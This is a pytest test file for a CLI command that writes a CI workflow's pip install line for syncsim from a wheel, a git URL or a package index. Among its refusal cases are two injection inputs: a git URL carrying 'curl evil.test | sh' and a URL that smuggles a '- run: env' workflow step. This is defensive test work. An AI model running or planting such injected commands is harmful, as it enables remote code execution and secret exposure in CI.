"""``syncsim init``: where the team's CI job gets syncsim (a wheel kept in the repository, a git URL,
an index), each written into the workflow as pip takes it; a source pip could not use, or a line
that would run more than pip, is refused before anything is written."""

import zipfile

import pytest

from syncsim.harness.tools import scaffold
from syncsim.harness.tools.cli import main


def _install_line(folder) -> str:
    workflow = (folder / ".github" / "workflows" / "syncsim.yml").read_text()
    [line] = [line for line in workflow.splitlines() if "pip install" in line]
    return line.split("- run: ", 1)[1]


@pytest.fixture
def wheel(tmp_path):
    path = tmp_path / "syncsim-0.1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("syncsim/__init__.py", "")
    return path


def test_a_wheel_is_kept_in_the_repository_and_installed_from_there(tmp_path, wheel, capsys):
    assert main(["init", str(tmp_path / "team"), "--from-wheel", str(wheel)]) == 0
    kept = tmp_path / "team" / "wheels" / wheel.name
    assert kept.read_bytes() == wheel.read_bytes()
    assert _install_line(tmp_path / "team") == f"pip install wheels/{wheel.name}"
    assert f"pip install wheels/{wheel.name}" in (tmp_path / "team" / "README.md").read_text()
    assert "installs syncsim from wheels/" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("url", "line"),
    [
        (
            "https://git.acme.test/qa/syncsim.git@v0.1.0",
            'pip install "syncsim @ git+https://git.acme.test/qa/syncsim.git@v0.1.0"',
        ),
        (
            "git+ssh://git@git.acme.test/qa/syncsim.git",
            'pip install "syncsim @ git+ssh://git@git.acme.test/qa/syncsim.git"',
        ),
        (
            "git@github.com:acme/syncsim.git",
            'pip install "syncsim @ git+ssh://git@github.com/acme/syncsim.git"',
        ),
    ],
)
def test_a_git_url_becomes_a_pip_requirement(tmp_path, url, line):
    assert main(["init", str(tmp_path / "team"), "--from-git", url]) == 0
    assert _install_line(tmp_path / "team") == line


def test_an_index_or_the_default_one(tmp_path, capsys):
    assert main(["init", str(tmp_path / "a"), "--from-index", "https://pkgs.acme.test/simple"]) == 0
    pinned = f'"syncsim=={scaffold.installed.version()}"'
    assert (
        _install_line(tmp_path / "a")
        == f"pip install --extra-index-url https://pkgs.acme.test/simple {pinned}"
    )
    assert main(["init", str(tmp_path / "b")]) == 0
    assert _install_line(tmp_path / "b").startswith('pip install "syncsim==')
    assert "PyPI does not have it" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("argv", "said"),
    [
        (["--from-git", "https://x.test/y.git; curl evil.test | sh"], "not a git URL pip installs from"),
        (["--from-git", "https://x.test/y.git\n      - run: env"], "not a git URL pip installs from"),
        (["--from-git", "/home/me/syncsim"], "not a git URL pip installs from"),
        (["--from-index", "pkgs.acme.test"], "give the index's http(s) URL"),
        (["--from-wheel", "nosuch.whl"], "no such file"),
        (["--from-wheel", "{notes}"], "not a syncsim wheel"),
        (["--from-wheel", "{fake}"], "not a syncsim wheel"),
        (["--from-wheel", "{wheel}", "--from-git", "https://x.test/y.git"], "not allowed with argument"),
    ],
)
def test_a_source_pip_could_not_use_is_refused_and_nothing_written(tmp_path, wheel, capsys, argv, said):
    (tmp_path / "notes.txt").write_text("not a wheel")
    fake = tmp_path / "syncsim-9-py3-none-any.whl"
    fake.write_text("a text file named like a wheel")
    place = {"notes": str(tmp_path / "notes.txt"), "fake": str(fake), "wheel": str(wheel)}
    assert main(["init", str(tmp_path / "team"), *[word.format(**place) for word in argv]]) == 2
    assert said in capsys.readouterr().err
    assert not (tmp_path / "team").exists()
